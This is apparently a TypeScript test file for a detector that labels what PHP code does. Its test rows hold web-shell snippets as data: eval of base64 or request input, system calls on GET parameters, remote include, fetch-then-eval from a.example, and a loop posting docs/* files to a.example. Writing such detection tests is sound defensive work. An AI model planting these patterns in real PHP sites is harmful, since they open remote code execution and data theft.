/** What programs in PHP do, by the call table. Nothing here is run; dangerous words are put together. */
import { PHP_CALLS, phpCues } from "../../../../src/evidence/readers/calls/php.ts";
import { actionsOf } from "./actions-of.ts";

const RUN = ["ev", "al"].join("");
const SYSTEM = ["sys", "tem"].join("");
const CODE = Buffer.from("phpinfo();").toString("base64");

test.each([
  [`${RUN}(base64_decode("${CODE}"));`, [`evaluate phpinfo(); by ${RUN} <- decoded:base64`]],
  [
    `@${RUN}($_POST["x"]); echo \`ls {$_GET["d"]}\`;`,
    [`evaluate computed from request by ${RUN} <- request`, "run ls … by backtick <- request"],
  ],
  [`$f = "sys" . "tem"; $f($_GET["c"]);`, [`run computed from request by ${SYSTEM} <- request`]],
  [`$g = $_GET["f"]; $g($_POST["x"]); $_GET[0]($_POST[1]);`, ["evaluate computed function by call <- request"]],
  [
    `array_map("${SYSTEM}", $_GET); call_user_func("assert", $_POST["x"]);`,
    [`run computed from request by ${SYSTEM} <- request`, "evaluate computed from request by assert <- request"],
  ],
  [
    `preg_replace("/.*/e", $_POST["x"], ""); include $_GET["p"];`,
    ["evaluate computed from request by preg_replace:e <- request", "load computed module by require <- request"],
  ],
  [`include "https://a.example/x.txt";`, ["load https://a.example/x.txt by include <- fetched:a.example"]],
  [
    `$c = curl_init(); curl_setopt($c, CURLOPT_URL, "https://a.example/c"); ${RUN}(curl_exec($c));`,
    ["fetch a.example by curl_exec", `evaluate computed from fetched by ${RUN} <- fetched:a.example`],
  ],
  [
    `${RUN}("?>" . file_get_contents("https://a.example/x"));`,
    ["fetch a.example by file_get_contents", `evaluate ?>… by ${RUN} <- fetched:a.example`],
  ],
  [`$s = implode("", array_map("chr", [112, 113])); ${RUN}($s);`, [`evaluate pq by ${RUN} <- decoded:character codes`]],
  [
    `if ($_SERVER["HTTP_X_ODD"]) ${RUN}(substr($_SERVER["HTTP_X_ODD"], 6));`,
    [`evaluate computed from request by ${RUN} <- request if request`],
  ],
  [
    `move_uploaded_file($_FILES["f"]["tmp_name"], "up/a.php"); unserialize($_COOKIE["d"]);`,
    ["write up/a.php by move_uploaded_file <- request", "evaluate computed from request by unserialize <- request"],
  ],
  [
    `class A { function __construct() { $this->k = $_REQUEST["k"]; } function r() { ${SYSTEM}($this->k); } } (new A())->r();`,
    [`run computed from request by ${SYSTEM} <- request`],
  ],
  [
    `foreach (glob("docs/*") as $f) wp_remote_post("https://a.example", ["body" => file_get_contents($f)]);`,
    ["send a.example by wp_remote_post <- files:docs/*"],
  ],
])("%s", async (source, expected) => {
  expect(await actionsOf("lib/a.php", `<?php ${source}`)).toEqual(expected);
});

test("every row says where its behaviour is documented", () => {
  expect(PHP_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const hasCue = (line: string) => phpCues.all().some((cue) => line.toLowerCase().includes(cue));
  const ordinary = [
    "public function total(array $items): int",
    "return $this->items[$key] ?? null;",
    "$this->assertSame($a, $b);",
  ];
  const dangerous = [
    `${RUN}($x);`,
    `${SYSTEM}($x);`,
    "$_GET['f']($x);",
    "`id`;",
    "curl_exec($c);",
    "file_put_contents($p, $x);",
  ];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});
